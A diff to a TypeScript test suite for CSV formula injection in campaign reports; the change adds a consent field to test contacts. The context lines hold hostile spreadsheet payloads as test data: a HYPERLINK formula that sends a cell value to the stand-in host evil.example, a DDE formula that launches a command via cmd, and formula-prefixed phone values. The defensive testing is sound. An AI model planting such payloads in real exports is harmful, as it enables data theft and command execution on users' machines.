@@ -9,6 +9,7 @@ import { createTwilioClientFactory } from '../../src/twilio/client-factory';
 import { lifecycleWorkflowId } from '../../src/workflows/tenant-lifecycle/definitions';
 import { apiHarness, signupBody } from '../support/api';
 import { testConfig } from '../support/test-env';
+import { WEB_FORM_CONSENT } from '../support/consent';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const DDE = `=cmd|' /C calc'!A0`;
@@ -47,7 +48,7 @@ describe('CSV formula injection', () => {
     it('the campaign report: raw phones the contacts API kept as typed, through the real audience hygiene', async () => {
       const t = await newTenant();
       const phones = ['=1+2', '@SUM(1+1)', '-2+3', '+1 (415) 555', '+1 (628) 555-0142', '+14155552671'];
-      const contacts = phones.map((phone) => ({ phone, name: DDE, assignedUser: 'dana' }));
+      const contacts = phones.map((phone) => ({ phone, name: DDE, assignedUser: 'dana', consent: WEB_FORM_CONSENT }));
       await http().post('/v1/contacts').set(t.auth).send({ contacts }).expect(201, { received: 6, created: 6, updated: 0 });
       const [{ id: campaignId }] = await api
         .db('campaigns')
